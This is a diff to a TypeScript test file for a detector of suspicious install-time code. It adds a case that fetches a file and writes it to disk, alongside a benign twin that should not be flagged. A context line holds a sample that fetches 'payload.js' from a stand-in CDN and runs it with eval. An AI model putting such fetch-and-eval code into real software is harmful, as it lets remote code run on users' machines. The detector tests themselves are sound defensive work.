@@ -24,6 +24,15 @@ const CASES: DetectorCase[] = [
     codeKind: 'install',
   },
   {
+    name: 'an async download: awaited fetch and a write in the same function',
+    code: `${FS}async function download(dest) { const res = await fetch('https://dl.example/tool.tgz'); fs.writeFileSync(dest, Buffer.from(await res.arrayBuffer())); }`,
+    expect: [{ messageIncludes: 'writes it to a file (fs.writeFileSync)' }],
+    twin: {
+      code: `${FS}async function list() { const res = await fetch('https://api.example/items'); return res.json(); }\nfunction save(items) { fs.writeFileSync('cache.json', JSON.stringify(items)); }`,
+    },
+    codeKind: 'install',
+  },
+  {
     name: 'fetched text run with eval',
     code: "fetch('https://cdn.example/payload.js').then((r) => r.text()).then((code) => eval(code));",
     expect: [{ messageIncludes: 'runs code (eval)' }],
